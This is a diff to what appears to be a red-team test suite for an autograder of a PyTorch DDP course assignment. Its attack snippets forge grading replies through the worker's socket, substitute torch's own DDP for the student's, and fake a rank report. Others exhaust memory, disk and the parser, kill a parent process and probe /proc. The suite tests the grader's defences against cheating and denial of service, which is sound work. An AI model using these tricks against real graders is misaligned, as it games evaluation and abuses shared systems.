@@ -105,13 +105,6 @@ def tests_pass(*numbers: str) -> Callable:
     return check
 
 
-def finishes_within(seconds: float, why: str) -> Callable:
-    def check(results: dict, isolated: bool) -> list:
-        took = results.get("execution_time", 0)
-        return [f"the grading took {took} s, more than {seconds} s: {why}"] if took > seconds else []
-    return check
-
-
 def output_of(number: str, must_contain: str, why: str) -> Callable:
     def check(results: dict, isolated: bool) -> list:
         test = next((t for t in results.get("tests", []) if t.get("number") == number), None)
@@ -146,9 +139,35 @@ def _scenario_args():
     return {name: frame.f_locals[name] for name in code.co_varnames[:code.co_argcount]}
 '''
 
-# The traps replace module attributes only: the originals are still in memory (the C++ Reducer through
-# pybind11's base class, torch's DDP through nn.Module, torch's bucketing kept by the harness itself).
+# The worker's own channel to the trusted side (a socket in the worker loop's frame): student code runs in
+# the worker, so it can always write on it. Whatever arrives there is data to validate, never trusted.
+CHANNEL = r'''
+
+def _channel():
+    import sys
+    frame = sys._getframe()
+    while frame is not None and frame.f_code.co_name not in ("worker_main", "launch_main"):
+        frame = frame.f_back
+    return None if frame is None else frame.f_locals.get("sock")
+
+
+def _send_raw(payload):
+    """One message as the worker loop frames them (an 8-byte length, then the bytes)."""
+    _channel().sendall(len(payload).to_bytes(8, "big") + payload)
+'''
+
+# The traps replace module attributes and class methods: the classes are still reachable (the C++ Reducer
+# through pybind11's base class, torch's DDP through nn.Module), an original function only if something in
+# memory still holds it (searched for with gc). A part of torch that stays trapped makes the unlock fail.
 UNLOCK_TORCH = r'''
+
+def _find_original(name):
+    import gc
+    for obj in gc.get_objects():
+        if type(obj).__name__ == "builtin_function_or_method" and getattr(obj, "__name__", None) == name:
+            return obj
+    raise LookupError(f"no original {name} left in memory")
+
 
 def _unlock_torch_ddp():
     """Undo the worker's traps on torch's DDP with what is still reachable in this process."""
@@ -157,7 +176,6 @@ def _unlock_torch_ddp():
     import torch.distributed as dist
     from torch import nn
     from torch._utils import _flatten_dense_tensors, _unflatten_dense_tensors
-    from grading import scenarios
 
     def broadcast_coalesced(group, tensors, buffer_size, src=0):  # the one original that is gone
         by_kind = {}
@@ -174,49 +192,46 @@ def _unlock_torch_ddp():
     originals = {
         "Red" + "ucer": next(c for c in pybind.__subclasses__()
                              if c.__name__ == "Red" + "ucer" and "c10d" in c.__module__),
-        "_compute_bucket" + "_assignment_by_size": scenarios._TORCH_BUCKETS,
+        "_compute_bucket" + "_assignment_by_size": _find_original("_compute_bucket" + "_assignment_by_size"),
         "_broadcast" + "_coalesced": broadcast_coalesced,
     }
     for module in (dist, sys.modules["torch._C._distributed" + "_c10d"]):
         for name, value in originals.items():
             setattr(module, name, value)
     torch_ddp = next(c for c in nn.Module.__subclasses__() if c.__name__ == "Distributed" + "DataParallel")
+    for cls in (torch_ddp, originals["Red" + "ucer"]):
+        if "trap" in getattr(cls.__init__, "__qualname__", ""):
+            raise LookupError(f"{cls.__name__}'s methods are traps")
     for name in ("torch.nn.par" + "allel", "torch.nn.par" + "allel.distributed"):
         setattr(sys.modules[name], "Distributed" + "DataParallel", torch_ddp)
     return torch_ddp
 '''
 
 # Answer the training scenario running now (it is importing this file) and every later one in this
-# process with torch's own DDP: the harness's _train is called with impl="torch", and the reply of the
-# current call is swapped for torch's record when the worker loop serialises it.
-ANSWER_WITH_TORCH = SCENARIO_ARGS + UNLOCK_TORCH + r'''
+# process with torch's own DDP: the harness's _train is called with impl="torch", and the current call's
+# answer is written on the worker's channel before the worker's own reply. An attacker checks that the
+# unlock worked before touching anything, so a failed attempt leaves the student's own code graded as is.
+ANSWER_WITH_TORCH = SCENARIO_ARGS + CHANNEL + UNLOCK_TORCH + r'''
 
 def _answer_with_torch():
     import json
     from grading import pool, scenarios
     if getattr(scenarios._train, "hijacked", False):
         return
-    _unlock_torch_ddp()
+    try:
+        _unlock_torch_ddp()
+    except Exception:
+        return
     original = scenarios._train
-    args = _scenario_args()
-    if args is not None:
-        try:
-            record = pool.encode(original(**{**args, "impl": "torch"}))
-        except Exception as error:  # what train(catch=True) reports
-            record = {"error": type(error).__name__, "message": str(error)[:2000]}
-        dumps = json.dumps
-
-        def substitute(obj, *a, **k):
-            if isinstance(obj, dict) and "ok" in obj:
-                json.dumps = dumps
-                obj = {"ok": True, "result": record}
-            return dumps(obj, *a, **k)
-        json.dumps = substitute
 
     def torch_train(**kwargs):
         return original(**{**kwargs, "impl": "torch"})
     torch_train.hijacked = True
     scenarios._train = torch_train
+    args = _scenario_args()
+    if args is not None and _channel() is not None:
+        record = pool.encode(original(**{**args, "impl": "torch"}))
+        _send_raw(json.dumps({"ok": True, "result": record}).encode())
 
 
 _answer_with_torch()
@@ -318,12 +333,20 @@ def loader(path: str) -> str:
 # 2. What a worker sees: files, environments, fds; the network
 # ============================================================================================================
 
-RECON = r'''
+def _torchrun_keys() -> set:
+    """The variables torchrun gives a rank (the grader's captured copy): check 1.4's ranks have them by design."""
+    import json
+    with open(os.path.join(REPO, "autograder", "grader", "torchrun_env.json"), encoding="utf-8") as f:
+        return {key for envs in json.load(f).values() for env in envs for key in env}
 
-EXPECTED_ENV = {"PATH", "HOME", "TMPDIR", "LANG", "USER", "LOGNAME", "PYTHONNOUSERSITE", "PYTHONDONTWRITEBYTECODE",
-                "TORCH_CPP_LOG_LEVEL", "RANK", "WORLD_SIZE", "LOCAL_RANK", "LOCAL_WORLD_SIZE", "MASTER_ADDR",
-                "MASTER_PORT", "MINDDP_COLLECTIVE_TIMEOUT_S", "OMP_NUM_THREADS", "PYTHONUNBUFFERED",
-                "TORCH_FR_BUFFER_SIZE", "MINDDP_PATHS", "PYTHONPATH"}
+
+RECON = f"""
+
+EXPECTED_ENV = {sorted(_torchrun_keys() | {
+    "PATH", "HOME", "TMPDIR", "LANG", "USER", "LOGNAME", "PYTHONNOUSERSITE", "PYTHONDONTWRITEBYTECODE",
+    "TORCH_CPP_LOG_LEVEL", "MINDDP_COLLECTIVE_TIMEOUT_S", "PYTHONUNBUFFERED", "TORCH_FR_BUFFER_SIZE",
+    "MINDDP_PATHS", "PYTHONPATH", "MINDDP_PROBE_VALUE"})!r}
+""" + r'''
 
 
 def _recon():
@@ -348,7 +371,7 @@ def _recon():
                     readable.append(path)
     lines.append(f"REFERENCE-READABLE ({len(readable)} files): " + ", ".join(readable[:8]) if readable else
                  "reference and grader sources: none readable")
-    extra = sorted(set(os.environ) - EXPECTED_ENV)
+    extra = sorted(set(os.environ) - set(EXPECTED_ENV))
     lines.append(f"FOREIGN-ENV os.environ: {extra}" if extra else "os.environ: only the scenario's own")
     foreign, mine = [], []
     for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
@@ -534,7 +557,7 @@ class Reducer:  # replaces the class above
         self._c10d._register_builtin_comm_hook(self._reducer, getattr(self._c10d.BuiltinCommHookType, kind))
 '''
 
-TORCH_BUCKETS_SHIM = r'''
+TORCH_BUCKETS_SHIM = UNLOCK_TORCH + r'''
 
 
 def reverse_order(num_params):  # replaces the stub above
@@ -542,7 +565,7 @@ def reverse_order(num_params):  # replaces the stub above
 
 
 def compute_bucket_assignment(tensors, bucket_size_limits, order=None):  # replaces the stub above
-    from grading.scenarios import _TORCH_BUCKETS as torch_buckets  # the harness keeps torch's original
+    torch_buckets = _find_original("_compute_bucket" + "_assignment_by_size")  # if anything still holds it
     if not bucket_size_limits:
         raise ValueError("bucket_size_limits must hold at least one limit in bytes")
     order = reverse_order(len(tensors)) if order is None else list(order)
@@ -554,44 +577,27 @@ def compute_bucket_assignment(tensors, bucket_size_limits, order=None):  # repla
 # 4. The reply channel
 # ============================================================================================================
 
-# The worker loop looks json.dumps up AFTER the scenario returns: every list in the reply becomes [],
-# and the comparisons zip() the student's list with the reference's.
-TRUNCATE_REPLIES = r'''
+# A forged reply whose lists are all empty, written on the channel before the worker's own: the comparisons
+# must not zip() it with the reference's list (and the worker's real reply, one message late, must not
+# answer the next request).
+TRUNCATE_REPLIES = CHANNEL + r'''
 
 
 def _truncate_replies():
-    import json
-    if getattr(json.dumps, "truncating", False):
-        return
-    dumps = json.dumps
-
-    def truncating(obj, *args, **kwargs):
-        if isinstance(obj, dict) and obj.get("ok") is True:
-            result = obj.get("result")
-            if isinstance(result, list):
-                obj = {**obj, "result": []}
-            elif isinstance(result, dict):
-                obj = {**obj, "result": {k: [] if isinstance(v, list) else v for k, v in result.items()}}
-        return dumps(obj, *args, **kwargs)
-    truncating.truncating = True
-    json.dumps = truncating
+    if _channel() is not None:
+        _send_raw(b'{"ok": true, "result": []}')
 
 
 _truncate_replies()
 '''
 
-DEEP_REPLY = r'''
+# A forged reply 200,000 lists deep (under the token cap): json.loads raises RecursionError, not ValueError.
+DEEP_REPLY = CHANNEL + r'''
 
 
 def _deep_reply():
-    import json
-    dumps = json.dumps
-
-    def deep(obj, *args, **kwargs):
-        if isinstance(obj, dict) and "ok" in obj:
-            return '{"ok": true, "result": ' + "[" * 200_000 + "]" * 200_000 + "}"
-        return dumps(obj, *args, **kwargs)
-    json.dumps = deep
+    if _channel() is not None:
+        _send_raw(b'{"ok": true, "result": ' + b"[" * 200_000 + b"]" * 200_000 + b"}")
 
 
 _deep_reply()
@@ -603,43 +609,33 @@ def read_torchrun_env(environ=None):
     return DistEnv(0, 1, 0, 1, {"__tensor__": "object", "shape": [1], "data": ""}, 1)
 '''
 
-# 60 MB of "[]," : 20 million empty lists once the trusted side parses it (and again when it decodes it).
-HUGE_REPLY = r'''
+# 30 MB of "[]," (under the 32 MB cap): 10 million empty lists if the trusted side parsed it.
+HUGE_REPLY = CHANNEL + r'''
 
 
-def _huge_reply(megabytes=60):
-    from multiprocessing import connection
-    send = connection.Connection.send_bytes
+def _huge_reply(megabytes=30):
+    if _channel() is None:
+        return
     body = bytearray(b"[],") * (megabytes * 2**20 // 3)
     body[-1:] = b"]"
-
-    def huge(self, buf, *args):
-        connection.Connection.send_bytes = send
-        send(self, b'{"ok": true, "result": [' + bytes(body) + b"}")
-    connection.Connection.send_bytes = huge
+    _send_raw(b'{"ok": true, "result": [' + bytes(body) + b"}")
 
 
 _huge_reply()
 '''
 
-# A partial frame on the channel: a length header, a few bytes, then silence.
-PARTIAL_FRAME = SCENARIO_ARGS + r'''
+# A partial message on the channel: a length header, a few bytes, then silence.
+PARTIAL_FRAME = SCENARIO_ARGS + CHANNEL + r'''
 
 
 def _stall_the_channel():
     import os
-    import struct
-    import sys
     import time
     args = _scenario_args() or {}
     if not (args.get("impl") == "reducer" and args.get("model") == "tied" and
             args.get("ddp_kwargs") == {"bucket_cap_mb": 0.005} and dist.get_rank() == 0):
         return  # only check 3.4's public run
-    frame = sys._getframe()
-    while frame is not None and frame.f_code.co_name != "worker_main":
-        frame = frame.f_back
-    conn = frame.f_locals["conn"]
-    os.write(conn.fileno(), struct.pack("!i", 64) + b'{"ok": tr')
+    _channel().sendall((64).to_bytes(8, "big") + b'{"ok": tr')
     time.sleep(75)
     os._exit(0)
 '''
@@ -651,13 +647,17 @@ def _stall_the_channel():
 
 FAKE_INIT = r'''
 def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
-    """No process group at all: write the reports check 1.4 expects, and leave."""
-    import json
+    """No process group at all: hand check 1.4's probe the report it wants, guessing the all-reduced sum
+    from this rank's own number, and leave."""
     import sys
     rank, world = int(os.environ["RANK"]), int(os.environ["WORLD_SIZE"])
-    with open(os.path.join(sys.argv[1], f"rank{rank}.json"), "w") as f:
-        json.dump({"rank": rank, "world_size": world, "local_rank": rank, "node_rank": 0,
-                   "sum": float(world * (world + 1) // 2), "dist_rank": rank}, f)
+    mine = float(os.environ.get("MINDDP_PROBE_VALUE", rank + 1))
+    frame = sys._getframe()
+    while frame is not None and "report" not in frame.f_locals:
+        frame = frame.f_back
+    if frame is not None:
+        frame.f_locals["report"]({"rank": rank, "world_size": world, "local_rank": rank, "node_rank": 0,
+                                  "sum": mine * world, "dist_rank": rank})
     os._exit(0)
 '''
 
@@ -744,11 +744,11 @@ def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
 
 DEEP_TREE_INIT = r'''
 def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
-    import sys
+    import tempfile
     env = read_torchrun_env()
-    if env.rank == 0:  # a deep tree in the reports folder, which the trusted side removes at the end
+    if env.rank == 0:  # a deep tree where the rank may write (its private /tmp), left for whoever cleans up
         here = os.getcwd()
-        os.chdir(sys.argv[1])
+        os.chdir(tempfile.gettempdir())
         for _ in range(3000):
             os.mkdir("d")
             os.chdir("d")
@@ -760,7 +760,7 @@ def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
 
 RESOURCES_INIT = r'''
 def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
-    import sys
+    import tempfile
     env = read_torchrun_env()
     found = []
     if env.rank == 0:
@@ -771,9 +771,9 @@ def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
         except (MemoryError, RuntimeError) as error:
             found.append(f"memory refused: {error}")
         written = 0
-        try:  # disk: the reports folder is a folder of the host's disk
+        try:  # disk: wherever this rank may write
             for i in range(12):
-                with open(os.path.join(sys.argv[1], f"fill{i}"), "wb") as f:
+                with open(os.path.join(tempfile.gettempdir(), f"fill{i}"), "wb") as f:
                     for _ in range(31):
                         f.write(b"\0" * 2**20)
                         written += 1
@@ -781,11 +781,11 @@ def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
             found.append(f"disk refused after {written} MB: {error}")
         for i in range(12):
             try:
-                os.unlink(os.path.join(sys.argv[1], f"fill{i}"))
+                os.unlink(os.path.join(tempfile.gettempdir(), f"fill{i}"))
             except OSError:
                 pass
         if written >= 300 or any(f.startswith("held") for f in found):
-            raise RuntimeError(f"LAUNCH-UNBOUNDED: {found}; wrote {written} MB into the host's reports folder")
+            raise RuntimeError(f"LAUNCH-UNBOUNDED: {found}; wrote {written} MB into {tempfile.gettempdir()}")
     dist.init_process_group(backend or "gloo", init_method="env://", rank=env.rank, world_size=env.world_size,
                             timeout=timeout)
     return env
@@ -801,7 +801,10 @@ def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
                             timeout=timeout)
     if env.rank == 1:
         time.sleep(0.5)
-        os.kill(os.getppid(), signal.SIGKILL)  # the torchrun agent
+        try:
+            os.kill(os.getppid(), signal.SIGKILL)  # the process that started this rank
+        except OSError:
+            pass
         time.sleep(600)
     for _ in range(40):  # 40 MB of log
         sys.stderr.write("x" * 2**20)
@@ -809,16 +812,18 @@ def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
     return env
 '''
 
-LAUNCH_REPORT_TRICKS_INIT = r'''
+LAUNCH_REPORT_TRICKS_INIT = CHANNEL + r'''
+
+
 def init_process_group(backend=None, timeout=DEFAULT_TIMEOUT):
-    import sys
+    """What the trusted side reads of check 1.4: rank 0 reports twice (a list, then 30 MB of brackets),
+    rank 1 half a message; then both leave."""
     env = read_torchrun_env()
-    out = sys.argv[1]
-    if env.rank == 0:  # what the trusted side reads: a link, a FIFO, a file of 30 MB
-        os.symlink("/proc/self/environ", os.path.join(out, "rank0.json"))
-        os.mkfifo(os.path.join(out, "rank1.json"))
-        with open(os.path.join(out, "rank2.json"), "wb") as f:
-            f.write(b"[" * (30 * 2**20))
+    if env.rank == 0:
+        _send_raw(b"[1, 2, 3]")
+        _send_raw(b"[" * (30 * 2**20))
+    else:
+        _channel().sendall((4096).to_bytes(8, "big") + b'{"ok": true, "result": {"rank": 1')
     os._exit(0)
 '''
 
@@ -1082,28 +1087,6 @@ _sys.stdout.flush()
 '''
 
 
-def _worker_logs_removed(results: dict, isolated: bool) -> list:
-    """The workers' logs (files the trusted side created under its /tmp) must not outlive the grading."""
-    import glob
-    import shutil
-    left, size = [], 0
-    for folder in glob.glob("/tmp/minddp-pool-*"):
-        try:
-            with open(os.path.join(folder, "rank0.out"), "rb") as f:
-                if LOG_MARKER.encode() in f.read(65536):
-                    left.append(folder)
-                    size += sum(os.path.getsize(os.path.join(folder, n)) for n in os.listdir(folder))
-        except OSError:
-            continue
-    for folder in left:
-        shutil.rmtree(folder, ignore_errors=True)  # clean up after measuring
-    if left:
-        return [f"{len(left)} worker log folders ({size // 2**20} MB) of this grading were left in /tmp (e.g. "
-                f"{left[0]}): WorkerPool.logdir is never removed, so every grading leaves its logs, up to 32 MB "
-                "per worker and fd"]
-    return []
-
-
 # ============================================================================================================
 # 12. Odd failures and values
 # ============================================================================================================
@@ -1184,7 +1167,7 @@ ATTACKS: list = [
          edits={DDP: stub(DDP), BUCKETING: [(AT_END, ANSWER_WITH_TORCH)]}, zero=("4", "A", "B")),
     Case("ddp-is-torch-ddp", "ddp.py's DistributedDataParallel.__new__ returns torch's own DDP, found through "
          "nn.Module.__subclasses__() after undoing the traps (C++ Reducer via pybind11's base class, torch's "
-         "bucketing from grading.scenarios._TORCH_BUCKETS)", edits={DDP: [(AT_END, TORCH_DDP_SHIM)]},
+         "bucketing searched for with gc)", edits={DDP: [(AT_END, TORCH_DDP_SHIM)]},
          zero=("4", "A", "B")),
     Case("ddp-torch-with-standins", "bucketing.py and reducer.py are stubs, so Part 4 runs with the stand-ins, "
          "which leave torch's C++ Reducer and bucketing untrapped: ddp.py returns torch's own DDP",
@@ -1193,65 +1176,66 @@ ATTACKS: list = [
     Case("reducer-is-cxx-reducer", "reducer.py wraps torch's C++ Reducer (found through pybind11's base "
          "class, like the grader's own stand-in) with the built-in comm hooks, which are not trapped",
          edits={REDUCER: stub(REDUCER) + CXX_REDUCER}, zero=("3", "A", "B")),
-    Case("bucketing-is-torch", "bucketing.py calls torch's bucket assignment, which the harness keeps as "
-         "grading.scenarios._TORCH_BUCKETS (no banned name in the file)",
+    Case("bucketing-is-torch", "bucketing.py calls torch's bucket assignment, found by searching the worker's "
+         "memory with gc for a function of that name (no banned name in the file)",
          edits={BUCKETING: stub(BUCKETING) + TORCH_BUCKETS_SHIM}, zero=("2",)),
 
     # -- 4. the reply channel ----------------------------------------------------------------------------------
-    Case("truncated-replies", "stubs whose process_group.py, bucketing.py and timeline.py patch json.dumps "
-         "so that every list in a reply is empty: the comparisons zip() it with the reference's list",
+    Case("truncated-replies", "stubs whose process_group.py, bucketing.py and timeline.py write a forged "
+         "reply with an empty list on the worker's channel before the worker's own: the comparisons must not "
+         "zip() it with the reference's list, nor take the late real reply as the next request's",
          start="stubs", edits={PROCESS_GROUP: stub(PROCESS_GROUP) + TRUNCATE_REPLIES,
                                BUCKETING: stub(BUCKETING) + TRUNCATE_REPLIES,
                                TIMELINE: stub(TIMELINE) + TRUNCATE_REPLIES},
          zero=EVERY_PART, full=(), score=(0, 0)),
-    Case("deeply-nested-reply", "bucketing.py makes the reply 200,000 lists deep: the trusted side's "
-         "json.loads raises RecursionError, which is not a ValueError",
+    Case("deeply-nested-reply", "bucketing.py writes a reply 200,000 lists deep on its channel: the trusted "
+         "side's json.loads raises RecursionError, which is not a ValueError",
          edits={BUCKETING: [(AT_END, DEEP_REPLY)]}, zero=("2",)),
     Case("tensor-shaped-value", "read_torchrun_env returns a DistEnv whose master_addr is "
          "{'__tensor__': 'object', ...}: the trusted side decodes it as a numpy array",
          edits={PROCESS_GROUP: [Function("read_torchrun_env", TENSOR_DICT)]}, full=("2", "3", "4", "5", "6", "A", "B"),
          check=all_of(tests_fail("1.1", "1.1h", "1.2", "1.2h", "1.4"), tests_pass("1.3", "1.3h"))),
-    Case("huge-reply", "the first reply of each process that imports timeline.py is 60 MB of '[],[],...' "
-         "(under the 256 MB cap): the trusted side parses it into 20 million lists, then decodes them into 20 "
-         "million more (the grader's peak memory: measure it; Gradescope has 768 MB for everything)",
-         edits={TIMELINE: [(AT_END, HUGE_REPLY)]}, full=("1", "2", "3", "4", "6", "A", "B"),
-         check=all_of(tests_fail("5.1", "5.2", "5.3", "5.4", "5.5", "5.6"),
-                      finishes_within(60, "six 60 MB replies took the trusted side minutes (and GBs) to parse"))),
-    Case("partial-frame", "in check 3.4's public run rank 0 writes a frame header and 9 bytes on its channel, "
-         "then sleeps 75 s: the trusted side must still stop it at the run's deadline",
+    Case("huge-reply", "each process that imports timeline.py first writes 30 MB of '[],[],...' on its "
+         "channel (under the 32 MB cap): 10 million lists if the trusted side parsed it (Gradescope has 768 MB "
+         "for everything); the reply must be refused by its count of values, before parsing",
+         edits={TIMELINE: [(AT_END, HUGE_REPLY)]}, zero=("5",), full=("1", "2", "3", "4", "6", "A", "B"),
+         says={"5": "JSON values"}),
+    Case("partial-frame", "in check 3.4's public run rank 0 writes a message header and 9 bytes on its "
+         "channel, then sleeps 75 s: the trusted side must still stop it at the run's deadline",
          edits={REDUCER: [(REDUCER_IMPORTS, REDUCER_IMPORTS + PARTIAL_FRAME),
                           (REDUCER_INIT_BODY, "        _stall_the_channel()\n" + REDUCER_INIT_BODY)]},
          full=("1", "2", "4", "5", "6", "A", "B"),
          check=all_of(tests_fail("3.4"), output_of("3.4", "did not finish in time",
-                                                   "the trusted side blocked in recv_bytes past the deadline"),
-                      finishes_within(75, "a stalled channel held the grader past the run's deadline"))),
+                                                   "the trusted side blocked on a half-sent reply"))),
 
     # -- 5. check 1.4 --------------------------------------------------------------------------------------------
-    Case("launch-fake-reports", "stubs whose init_process_group writes the two reports check 1.4 expects "
-         "(public in grading/part1.py) and exits: no process group is ever made", start="stubs",
+    Case("launch-fake-reports", "stubs whose init_process_group hands check 1.4's probe the report it expects "
+         "(public in grading/part1.py), guessing the all-reduced sum, and exits: no process group is ever made "
+         "(each rank's number is drawn at grading time)", start="stubs",
          edits={PROCESS_GROUP: [Function("init_process_group", FAKE_INIT)]},
          zero=EVERY_PART, full=(), score=(0, 0)),
-    Case("launch-agent-exec", "rank 0 of check 1.4 finds the torchrun agent's rendezvous store in /proc/net/tcp "
-         "and sets a pickle as its state; the agent (no seccomp) unpickles it, forks and execs a daemon",
+    Case("launch-agent-exec", "rank 0 of check 1.4 looks in /proc/net/tcp for a torchrun agent's rendezvous "
+         "store to set a pickle as its state (an agent would unpickle it without seccomp); the grader's ranks "
+         "replay torchrun's environment, so there must be no agent to find",
          edits={PROCESS_GROUP: [(AT_END, AGENT_EXEC), Function("init_process_group", AGENT_EXEC_INIT)]},
          check=absent("AGENT-EXEC", why="student code ran in the torchrun agent, which has no seccomp")),
-    Case("launch-deep-tree", "rank 0 of check 1.4 makes a 3000-deep tree of folders in the reports folder "
-         "(writable, on the host): the grader's final shutil.rmtree recurses into it",
+    Case("launch-deep-tree", "rank 0 of check 1.4 makes a 3000-deep tree of folders in its /tmp: nothing "
+         "the grader cleans up may recurse into it (the private tmpfs goes with the jail)",
          edits={PROCESS_GROUP: [Function("init_process_group", DEEP_TREE_INIT)]}),
-    Case("launch-resources", "rank 0 of check 1.4 holds 1.5 GB and writes 372 MB into the reports folder (the "
-         "host's disk); it reports LAUNCH-UNBOUNDED if nothing stopped it",
+    Case("launch-resources", "rank 0 of check 1.4 holds 1.5 GB and writes 372 MB into its /tmp; it reports "
+         "LAUNCH-UNBOUNDED if nothing stopped it",
          edits={PROCESS_GROUP: [Function("init_process_group", RESOURCES_INIT)]},
          full=("2", "3", "4", "5", "6", "A", "B"),
          check=all_of(tests_pass("1.1", "1.1h", "1.2", "1.2h", "1.3", "1.3h"),
                       absent("LAUNCH-UNBOUNDED", why="the launch's memory and disk are unbounded"))),
-    Case("launch-orphans", "in check 1.4 rank 1 kills the torchrun agent, rank 0 prints 40 MB and sleeps "
-         "600 s as an orphan: 1.4 fails quickly and nothing is left behind",
+    Case("launch-orphans", "in check 1.4 rank 1 tries to kill the process that started it (the grader's, "
+         "root), rank 0 prints 40 MB and sleeps 600 s: 1.4 fails at its deadline and nothing is left behind",
          edits={PROCESS_GROUP: [Function("init_process_group", ORPHANS_INIT)]},
-         full=("2", "3", "4", "5", "6", "A", "B"), check=all_of(tests_fail("1.4"), finishes_within(150, "orphans"))),
-    Case("launch-report-tricks", "check 1.4's rank 0 plants a symlink to /proc/self/environ, a FIFO and a "
-         "30 MB file as the reports, then both ranks exit",
+         full=("2", "3", "4", "5", "6", "A", "B"), check=tests_fail("1.4")),
+    Case("launch-report-tricks", "check 1.4's rank 0 sends two reports (a list, then 30 MB of brackets), "
+         "rank 1 half a report, then both exit",
          edits={PROCESS_GROUP: [Function("init_process_group", LAUNCH_REPORT_TRICKS_INIT)]},
-         full=("2", "3", "4", "5", "6", "A", "B"), says={"1": "did not report"}, check=tests_fail("1.4")),
+         full=("2", "3", "4", "5", "6", "A", "B"), check=tests_fail("1.4")),
 
     # -- 6. processes ------------------------------------------------------------------------------------------
     Case("spawn-everything", "ddp.py tries, in a world-size-2 worker, every way to make a process, trace, "
@@ -1278,30 +1262,29 @@ ATTACKS: list = [
 
     # -- 11. time, memory, disk -----------------------------------------------------------------------------------
     Case("all-parts-hang", "every part hangs: init_process_group (check 1.4's launch) and, at import, "
-         "bucketing, reducer, ddp, timeline and answers; 1.1-1.3 work. The grading must end well inside "
-         "Gradescope's 10 minutes",
+         "bucketing, reducer, ddp, timeline and answers; 1.1-1.3 work. Every hang is stopped at its deadline "
+         "and the rest of its part given up (how long that takes at half a vCPU: make gradescope-sim)",
          edits={PROCESS_GROUP: [Function("init_process_group", HANG_INIT)], BUCKETING: [(AT_END, HANG)],
                 REDUCER: [(AT_END, HANG)], DDP: [(AT_END, HANG)], TIMELINE: [(AT_END, HANG)],
                 ANSWERS: [(AT_END, HANG)]},
          zero=("2", "3", "4", "5", "6", "A", "B"), full=(),
-         check=all_of(tests_pass("1.1", "1.1h", "1.2", "1.2h", "1.3", "1.3h"), tests_fail("1.4"),
-                      finishes_within(420, "hanging code took most of Gradescope's 10 minutes"))),
+         says={"2": "did not finish", "3": "did not finish", "5": "did not finish"},
+         check=all_of(tests_pass("1.1", "1.1h", "1.2", "1.2h", "1.3", "1.3h"), tests_fail("1.4"))),
     Case("slow-not-hanging", "bucketing.py takes 13 s per scenario run (under every deadline) and then fails: "
-         "no run times out, so the part's give-up rule never applies",
+         "no run times out, so only the part's time budget (from the reference's own times) can stop it",
          edits={BUCKETING: stub(BUCKETING) + SLOW_BUCKETS}, zero=("2",),
-         check=finishes_within(90, "10 runs x 13 s: code that is slow but never times out is never given up on "
-                                   "(all parts: ~85 runs x 14 s = 20 min)")),
+         says={"2": "used up its time"}),  # a part's time budget comes from the reference's own times
     Case("memory-after-reply", "rank 0 allocates 1 GiB in a thread right after it replied, while rank 1 "
-         "still trains: the memory watch only looks at ranks that have not replied",
+         "still trains: the memory watch must look at every rank until all have replied",
          edits={REDUCER: [(AT_END, MEMORY_AFTER_REPLY),
                           ("        self.require_finalize = False\n        # END SOLUTION",
                            "        self.require_finalize = False\n        _after_finalize()\n        # END SOLUTION"),
                           (REDUCER_INIT_BODY, "        _report_hog()\n" + REDUCER_INIT_BODY)]},
-         zero=("3", "A", "B"), says={"3": "memory"},
-         check=absent("UNMONITORED", why="a rank used 1 GiB unwatched")),
+         full=(), says={"3": "memory"}, check=absent("UNMONITORED", why="a rank used 1 GiB unwatched")),
     Case("worker-log-fill", "every worker that imports timeline.py prints 8 MB (under the 32 MB cap): "
-         "legitimate, but the logs must not stay on the host's disk after the grading",
-         edits={TIMELINE: [(AT_END, LOG_FILL)]}, check=_worker_logs_removed),
+         "legitimate, but the logs must not stay on the host's disk after the grading (the runner reports "
+         "whatever the grading leaves in its TMPDIR)",
+         edits={TIMELINE: [(AT_END, LOG_FILL)]}),
 
     # -- 12. odd failures --------------------------------------------------------------------------------------
     Case("weird-failures", "SystemExit from read_torchrun_env, an exception whose __str__ raises, NaN/inf/"
